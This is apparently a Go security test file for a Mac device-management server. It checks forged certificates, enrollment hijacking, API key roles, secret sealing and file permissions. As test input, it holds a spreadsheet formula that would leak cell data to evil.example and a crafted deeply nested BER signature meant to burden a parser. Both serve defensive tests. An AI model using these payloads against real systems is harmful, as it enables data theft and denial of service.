package main

import (
	"bytes"
	"crypto"
	"crypto/x509"
	"encoding/base64"
	"encoding/csv"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sundial-mdm/sundial/api"
	"github.com/sundial-mdm/sundial/certs"
	"github.com/sundial-mdm/sundial/mdm"
	"github.com/sundial-mdm/sundial/mdm/mdmtest"
	"github.com/sundial-mdm/sundial/storage"
	"github.com/sundial-mdm/sundial/storage/bolt"
)

func authenticateBody(udid, topic string) []byte {
	return []byte(`<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict><key>MessageType</key><string>Authenticate</string><key>Topic</key><string>` + topic + `</string><key>UDID</key><string>` + udid + `</string></dict></plist>`)
}

// TestPublicCertificatesAreNoDeviceIdentity: the SCEP RA and profile-signer
// certificates are public (GetCACert, every profile) and signed by
// Sundial's CA; neither may enroll a device, by Mdm-Signature or through
// --cert-header.
func TestPublicCertificatesAreNoDeviceIdentity(t *testing.T) {
	ts := startTestServerWith(t, t.TempDir(), func(c *Config) { c.CertHeader = "X-Client-Cert" })
	ra, raKey := ts.app.authority.RA()
	signer, signerKey := ts.app.authority.ProfileSigner()
	for _, tc := range []struct {
		name string
		cert *x509.Certificate
		key  crypto.Signer
	}{{"SCEP RA", ra, raKey}, {"profile signer", signer, signerKey}} {
		t.Run(tc.name, func(t *testing.T) {
			udid := "FORGED-" + tc.cert.Subject.CommonName
			body := authenticateBody(udid, "com.apple.mgmt.test")
			sig, err := certs.SignMdmSignature(body, tc.cert, tc.key)
			if err != nil {
				t.Fatal(err)
			}
			if status, _ := ts.put(t, "/mdm/checkin", checkinCT, body, sig); status != http.StatusUnauthorized {
				t.Errorf("Mdm-Signature: status = %d, want 401", status)
			}
			req, _ := http.NewRequest(http.MethodPut, ts.url+"/mdm/checkin", bytes.NewReader(body))
			req.Header.Set("Content-Type", checkinCT)
			req.Header.Set("X-Client-Cert", url.QueryEscape(string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: tc.cert.Raw}))))
			resp, err := ts.hc.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusUnauthorized {
				t.Errorf("--cert-header: status = %d, want 401", resp.StatusCode)
			}
			if _, err := ts.app.store.Device(t.Context(), udid); !errors.Is(err, storage.ErrNotFound) {
				t.Errorf("a device record was made: %v", err)
			}
		})
	}
}

// TestHostileSignatureHeaderOverHTTP: an oversized nested-BER Mdm-Signature
// is answered 401 without reaching the CMS library (its CPU cost is in
// certs.BenchmarkHostileSignature), and the server keeps serving.
func TestHostileSignatureHeaderOverHTTP(t *testing.T) {
	ts := startTestServer(t, t.TempDir())
	mac := ts.enroll(t)
	prefix := []byte{0x30, 0x80, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x02, 0xa0, 0x80}
	for _, n := range []int{48 << 10 / 4, 1000} { // over the cap, and under it but too deep
		der := append(bytes.Clone(prefix), bytes.Repeat([]byte{0x30, 0x80}, n)...)
		der = append(der, make([]byte, 2*n+4)...)
		status, _ := ts.put(t, "/mdm/checkin", checkinCT, authenticateBody("HOSTILE", "x"), base64.StdEncoding.EncodeToString(der))
		if status != http.StatusUnauthorized {
			t.Errorf("nesting %d: status = %d, want 401", n, status)
		}
	}
	if _, err := mac.Connect(t.Context()); err != nil {
		t.Fatalf("a real Mac after the hostile headers: %v", err)
	}
}

// TestEnrollmentHijackRefused is the attack of issue 21: anyone who can
// download the profile gets an identity by SCEP and sends Authenticate with
// a victim's UDID. The victim's valid, recently seen binding must stay, the
// refusal must be recorded with both certificates, and only a proven
// re-enrollment (check-out, or an admin's time-limited approval) may
// re-bind; a re-bind drops the escrowed bootstrap token and the agent
// secret.
func TestEnrollmentHijackRefused(t *testing.T) {
	ts := startTestServer(t, t.TempDir())
	ctx := t.Context()
	victim := ts.enroll(t)
	if _, err := victim.Connect(ctx); err != nil { // inventory and the agent profile
		t.Fatal(err)
	}
	if err := victim.SetBootstrapToken(ctx); err != nil {
		t.Fatal(err)
	}
	victimCert := certs.HashCert(victim.Enrollment().Certificate)
	agentHash, err := ts.app.store.AgentSecretHash(ctx, victim.UDID)
	if err != nil {
		t.Fatal(err)
	}

	// The attacker: a simulated Mac claiming the victim's UDID, enrolling
	// through the public profile and SCEP.
	attacker := ts.newMac(t, mdmtest.WithUDID(victim.UDID))
	if err := attacker.Enroll(ctx, ts.hc, ts.url+"/mdm/enroll"); err == nil {
		t.Fatal("the attacker's Authenticate for the victim's UDID was accepted")
	}
	attackerCert := certs.HashCert(attacker.Enrollment().Certificate)
	if d := ts.device(t, victim.UDID); d.CertHash != victimCert || !d.Enabled || len(d.BootstrapToken) == 0 {
		t.Fatalf("victim's enrollment changed: cert %s, enabled %v, bootstrap %d bytes", d.CertHash, d.Enabled, len(d.BootstrapToken))
	}
	if tok, err := victim.GetBootstrapToken(ctx); err != nil || len(tok) == 0 {
		t.Fatalf("victim's GetBootstrapToken after the attack = %x, %v", tok, err)
	}
	if _, err := attacker.GetBootstrapToken(ctx); err == nil {
		t.Fatal("the attacker got an answer to GetBootstrapToken")
	}
	view, err := ts.admin.Enrollment(ctx, victim.UDID)
	if err != nil {
		t.Fatal(err)
	}
	last := view.Events[len(view.Events)-1]
	if last.Kind != mdm.EventRebindRefused || last.OldCert != victimCert || last.NewCert != attackerCert {
		t.Fatalf("last enrollment event = %+v, want the refusal with both certificates", last)
	}
	// Replaying the attempt is refused again and kept as the same event.
	auth := authenticateBody(victim.UDID, victim.Enrollment().Topic)
	for range 3 {
		if status, _ := ts.put(t, "/mdm/checkin", checkinCT, auth, sign(t, attacker, auth)); status != http.StatusUnauthorized {
			t.Fatalf("replayed Authenticate: status %d, want 401", status)
		}
	}
	if again, err := ts.admin.Enrollment(ctx, victim.UDID); err != nil || len(again.Events) != len(view.Events) {
		t.Errorf("replays added events: %d before, %d after (%v)", len(view.Events), len(again.Events), err)
	}

	// An admin's approval lets one re-enrollment through (e.g. the Mac
	// was wiped without checking out); it is audited and used up.
	if _, err := ts.admin.AllowReenroll(ctx, victim.UDID, 30*time.Minute); err != nil {
		t.Fatal(err)
	}
	reinstalled := ts.newMac(t, mdmtest.WithUDID(victim.UDID))
	if err := reinstalled.Enroll(ctx, ts.hc, ts.url+"/mdm/enroll"); err != nil {
		t.Fatalf("re-enrollment allowed by an admin: %v", err)
	}
	d := ts.device(t, victim.UDID)
	if d.CertHash != certs.HashCert(reinstalled.Enrollment().Certificate) || len(d.BootstrapToken) != 0 {
		t.Fatalf("after the approved re-enrollment: cert %s, bootstrap %d bytes (want the new cert and no token)", d.CertHash, len(d.BootstrapToken))
	}
	if _, err := reinstalled.Connect(ctx); err != nil {
		t.Fatal(err)
	}
	if h, err := ts.app.store.AgentSecretHash(ctx, victim.UDID); err != nil || h == agentHash {
		t.Errorf("agent secret after re-enrollment = %q, %v; want a fresh one", h, err)
	}
	if _, err := victim.Connect(ctx); err == nil {
		t.Error("the old certificate still works after the re-enrollment")
	}
	audit, err := ts.admin.Audit(ctx, 0, 1000)
	if err != nil || len(audit) == 0 || audit[len(audit)-1].Action != "device.allow_reenroll" {
		t.Errorf("audit log = %+v, %v", audit, err)
	}
	view, _ = ts.admin.Enrollment(ctx, victim.UDID)
	if last := view.Events[len(view.Events)-1]; last.Kind != mdm.EventRebound || last.Actor == "" || !view.ReenrollUntil.IsZero() {
		t.Errorf("after the re-bind: last event %+v, approval until %v (want used up)", last, view.ReenrollUntil)
	}
	if again := ts.newMac(t, mdmtest.WithUDID(victim.UDID)); again.Enroll(ctx, ts.hc, ts.url+"/mdm/enroll") == nil {
		t.Error("the approval let a second re-enrollment through")
	}

	// A Mac that checked out may enroll again with a new identity.
	if err := reinstalled.CheckOut(ctx); err != nil {
		t.Fatal(err)
	}
	fresh := ts.newMac(t, mdmtest.WithUDID(victim.UDID))
	if err := fresh.Enroll(ctx, ts.hc, ts.url+"/mdm/enroll"); err != nil {
		t.Fatalf("re-enrollment after check-out: %v", err)
	}
}

// TestUserChannelTokenUpdateStoresNothing: UserAuthenticate is declined, so a
// TokenUpdate for a user channel must not create a device record (one Mac
// could otherwise create one per UserID it sends).
func TestUserChannelTokenUpdateStoresNothing(t *testing.T) {
	ts := startTestServer(t, t.TempDir())
	mac := ts.enroll(t)
	for i := range 3 {
		user := fmt.Sprintf("USER-%d", i)
		body := []byte(`<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict><key>MessageType</key><string>TokenUpdate</string><key>Topic</key><string>x</string><key>UDID</key><string>` + mac.UDID + `</string><key>UserID</key><string>` + user + `</string><key>UserShortName</key><string>u</string><key>Token</key><data>AAECAw==</data><key>PushMagic</key><string>m</string></dict></plist>`)
		if status, out := ts.put(t, "/mdm/checkin", checkinCT, body, sign(t, mac, body)); status != http.StatusOK {
			t.Fatalf("status = %d %s", status, out)
		}
		if _, err := ts.app.store.Device(t.Context(), mac.UDID+":"+user); !errors.Is(err, storage.ErrNotFound) {
			t.Fatalf("user channel record created: %v", err)
		}
	}
	list, err := ts.admin.Devices(t.Context(), "", 100)
	if err != nil || len(list.Devices) != 1 {
		t.Fatalf("devices = %d, %v; want the Mac alone", len(list.Devices), err)
	}
}

// TestAPIKeyRoles: a read key reads devices, reports and the audit log but
// changes nothing and reads neither the backup nor the keys; the last
// admin key cannot be revoked.
func TestAPIKeyRoles(t *testing.T) {
	ts := startTestServer(t, t.TempDir())
	ctx := t.Context()
	mac := ts.enroll(t)
	rk, err := ts.admin.CreateAPIKeyWithRole(ctx, "viewer", api.RoleRead)
	if err != nil || rk.Role != api.RoleRead {
		t.Fatalf("create read key = %+v, %v", rk, err)
	}
	reader := &api.Client{BaseURL: ts.url, APIKey: rk.Secret, HTTP: ts.hc}
	if list, err := reader.Devices(ctx, "", 10); err != nil || len(list.Devices) != 1 {
		t.Errorf("read key lists devices = %+v, %v", list, err)
	}
	if _, err := reader.Commands(ctx, mac.UDID); err != nil {
		t.Errorf("read key reads command history: %v", err)
	}
	if _, err := reader.ComplianceReport(ctx, false); err != nil {
		t.Errorf("read key reads the compliance report: %v", err)
	}
	if _, err := reader.Audit(ctx, 0, 10); err != nil {
		t.Errorf("read key reads the audit log: %v", err)
	}
	forbidden := func(what string, err error) {
		t.Helper()
		var ae *api.Error
		if !errors.As(err, &ae) || ae.Code != api.CodeForbidden {
			t.Errorf("read key %s: err = %v, want forbidden", what, err)
		}
	}
	cmd, _ := mdm.NewCommand("ProfileList", nil)
	_, err = reader.Enqueue(ctx, mac.UDID, cmd.Raw)
	forbidden("enqueues a command", err)
	_, err = reader.CreateAPIKey(ctx, "escalate")
	forbidden("creates a key", err)
	_, err = reader.APIKeys(ctx)
	forbidden("lists keys", err)
	_, err = reader.Backup(ctx, filepath.Join(t.TempDir(), "b.db"))
	forbidden("downloads the backup", err)
	_, err = reader.AllowReenroll(ctx, mac.UDID, time.Hour)
	forbidden("allows a re-enrollment", err)
	if _, err := ts.admin.CreateAPIKeyWithRole(ctx, "bad", "owner"); err == nil {
		t.Error("a key with an unknown role was created")
	}

	// The last admin key cannot be revoked; with a second one it can.
	keys, err := ts.admin.APIKeys(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var initial string
	for _, k := range keys {
		if api.EffectiveRole(k.Role) == api.RoleAdmin {
			initial = k.ID
		}
	}
	var ae *api.Error
	if err := ts.admin.RevokeAPIKey(ctx, initial); !errors.As(err, &ae) || ae.Code != api.CodeConflict {
		t.Fatalf("revoking the last admin key: %v, want conflict", err)
	}
	second, err := ts.admin.CreateAPIKey(ctx, "second admin")
	if err != nil {
		t.Fatal(err)
	}
	// Revoked with the second key: revoking the key a request is made
	// with needs force=true (ops branch), which is not what is tested here.
	other := &api.Client{BaseURL: ts.url, APIKey: second.Secret, HTTP: ts.hc}
	if err := other.RevokeAPIKey(ctx, initial); err != nil {
		t.Fatalf("revoking an admin key with another left: %v", err)
	}
	if err := other.RevokeOwnAPIKey(ctx, second.ID); !errors.As(err, &ae) || ae.Code != api.CodeConflict || !strings.Contains(ae.Message, "last admin") {
		t.Errorf("revoking the new last admin key: %v, want conflict", err)
	}
}

// TestCSVExportNeutralisesFormulas: a DeviceName is chosen by whoever uses
// the Mac; the compliance CSV must not hand it to a spreadsheet as a
// formula.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	ts := startTestServer(t, t.TempDir())
	name := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	mac := ts.enroll(t, mdmtest.WithDeviceName(name))
	if _, err := mac.Connect(t.Context()); err != nil { // inventory
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := ts.admin.ComplianceCSV(t.Context(), &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv = %v, %v", recs, err)
	}
	for _, cell := range recs[1] {
		if strings.HasPrefix(cell, "=") {
			t.Errorf("cell %q starts a formula", cell)
		}
	}
	if got := recs[1][2]; got != "'"+name {
		t.Errorf("device_name = %q, want it prefixed with a quote", got)
	}
}

// TestAgentSecretNeverShown: the agent's settings profile carries its
// secret; the Mac receives it, but the admin API, the database file and a
// backup hold it only sealed.
func TestAgentSecretNeverShown(t *testing.T) {
	ts := startTestServer(t, t.TempDir())
	ctx := t.Context()
	m := enrollAgentMac(t, ts)
	secret := m.Settings.Secret
	if len(secret) < 32 {
		t.Fatalf("the Mac got no usable secret: %q", secret)
	}
	cmds, err := ts.admin.Commands(ctx, m.UDID)
	if err != nil {
		t.Fatal(err)
	}
	var found bool
	for _, c := range cmds {
		if c.RequestType == "InstallProfile" {
			found = true
			if c.Raw != mdm.RedactedRaw {
				t.Errorf("InstallProfile body in the API = %.80q..., want it redacted", c.Raw)
			}
		}
		if strings.Contains(c.Raw, secret) || strings.Contains(c.Result, secret) {
			t.Errorf("%s shows the agent secret", c.RequestType)
		}
	}
	if !found {
		t.Fatal("no InstallProfile in the command history")
	}
	backup := filepath.Join(t.TempDir(), "backup.db")
	if _, err := ts.admin.Backup(ctx, backup); err != nil {
		t.Fatal(err)
	}
	// The store and the backup hold the body sealed (the secret sits
	// base64-encoded inside the plist, so look at the records, not bytes).
	stored := func(name string, recs []*mdm.CommandRecord) {
		t.Helper()
		for _, r := range recs {
			if r.RequestType != "InstallProfile" {
				continue
			}
			if _, ok := mdm.SealedPart(r.Raw); !ok || bytes.Contains(r.Raw, []byte("<plist")) {
				t.Errorf("%s: InstallProfile stored unsealed: %.60q", name, r.Raw)
			}
		}
	}
	recs, err := ts.app.store.Commands(ctx, m.UDID)
	if err != nil {
		t.Fatal(err)
	}
	stored("database", recs)
	bs, err := bolt.Open(backup, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer bs.Close()
	if recs, err = bs.Commands(ctx, m.UDID); err != nil || len(recs) == 0 {
		t.Fatalf("backup commands = %d, %v", len(recs), err)
	}
	stored("backup", recs)
}

// TestBootstrapTokenBoundToEnrollment: a sealed bootstrap token copied into
// another device's record (a database edit, a restored row) does not open
// there.
func TestBootstrapTokenBoundToEnrollment(t *testing.T) {
	ts := startTestServer(t, t.TempDir())
	ctx := t.Context()
	a, b := ts.enroll(t), ts.enroll(t)
	if err := a.SetBootstrapToken(ctx); err != nil {
		t.Fatal(err)
	}
	sealed := ts.device(t, a.UDID).BootstrapToken
	if err := ts.app.store.SetBootstrapToken(ctx, b.UDID, sealed, time.Now()); err != nil {
		t.Fatal(err)
	}
	if tok, err := b.GetBootstrapToken(ctx); err == nil && len(tok) > 0 {
		t.Fatalf("B opened A's bootstrap token: %x", tok)
	}
	if tok, err := a.GetBootstrapToken(ctx); err != nil || !bytes.Equal(tok, a.BootstrapToken) {
		t.Fatalf("A's own token = %x, %v", tok, err)
	}
}

// TestDataDirTightened: a data directory and key files left readable by
// group and others (a restored backup) are made private at start.
func TestDataDirTightened(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "data")
	ts := startTestServer(t, dir)
	ts.stop()
	for _, p := range []struct {
		path string
		mode os.FileMode
	}{{dir, 0o755}, {filepath.Join(dir, certs.CAKeyFile), 0o644}, {filepath.Join(dir, "seal.key"), 0o640}, {filepath.Join(dir, certs.CACertFile), 0o644}} {
		if err := os.Chmod(p.path, p.mode); err != nil {
			t.Fatal(err)
		}
	}
	startTestServer(t, dir)
	for path, want := range map[string]os.FileMode{
		dir:                                  0o700,
		filepath.Join(dir, certs.CAKeyFile):  0o600,
		filepath.Join(dir, "seal.key"):       0o600,
		filepath.Join(dir, certs.CACertFile): 0o644, // public
		filepath.Join(dir, adminKeyFile):     0o600,
	} {
		fi, err := os.Stat(path)
		if err != nil {
			t.Fatal(err)
		}
		if got := fi.Mode().Perm(); got != want {
			t.Errorf("%s: mode %v, want %v", filepath.Base(path), got, want)
		}
	}
}

// TestMetricsAndHealthNeedKeyOnDeviceListener: with one listener, strangers
// see only that the server is up; /metrics and the detailed /healthz need
// an API key.
func TestMetricsAndHealthNeedKeyOnDeviceListener(t *testing.T) {
	ts := startTestServer(t, t.TempDir())
	get := func(path, key string) (int, string) {
		t.Helper()
		req, _ := http.NewRequest(http.MethodGet, ts.url+path, nil)
		if key != "" {
			req.Header.Set("Authorization", "Bearer "+key)
		}
		resp, err := ts.hc.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	if status, body := get("/metrics", ""); status != http.StatusUnauthorized {
		t.Errorf("/metrics without a key: %d %.80s", status, body)
	}
	if status, body := get("/metrics", ts.admin.APIKey); status != http.StatusOK || !strings.Contains(body, "go_goroutines") {
		t.Errorf("/metrics with a key: %d %.80s", status, body)
	}
	if status, body := get("/healthz", ""); status != http.StatusOK || strings.Contains(body, "push") {
		t.Errorf("/healthz without a key: %d %s, want only the status", status, body)
	}
	if status, body := get("/healthz", ts.admin.APIKey); status != http.StatusOK || !strings.Contains(body, "push") {
		t.Errorf("/healthz with a key: %d %s, want the details", status, body)
	}
}

// TestAdminListener: with --admin-listen the device address serves no
// admin API, /metrics or detailed /healthz; the admin address serves them.
func TestAdminListener(t *testing.T) {
	ts := startTestServerWith(t, t.TempDir(), func(c *Config) { c.AdminListen = "127.0.0.1:0" })
	mac := ts.enroll(t) // devices still enroll on the device address
	for _, path := range []string{"/api/v1/devices", "/metrics"} {
		req, _ := http.NewRequest(http.MethodGet, ts.url+path, nil)
		req.Header.Set("Authorization", "Bearer "+ts.admin.APIKey)
		resp, err := ts.hc.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusNotFound {
			t.Errorf("%s on the device address: %d, want 404", path, resp.StatusCode)
		}
	}
	var addr net.Addr
	waitFor(t, func() bool { addr = ts.app.adminAddr(); return addr != nil })
	admin := &api.Client{BaseURL: "https://" + addr.String(), APIKey: ts.admin.APIKey, HTTP: ts.hc}
	list, err := admin.Devices(t.Context(), "", 10)
	if err != nil || len(list.Devices) != 1 || list.Devices[0].ID != mac.UDID {
		t.Fatalf("devices on the admin address = %+v, %v", list, err)
	}
	resp, err := ts.hc.Get("https://" + addr.String() + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("/metrics on the admin address: %d", resp.StatusCode)
	}
}
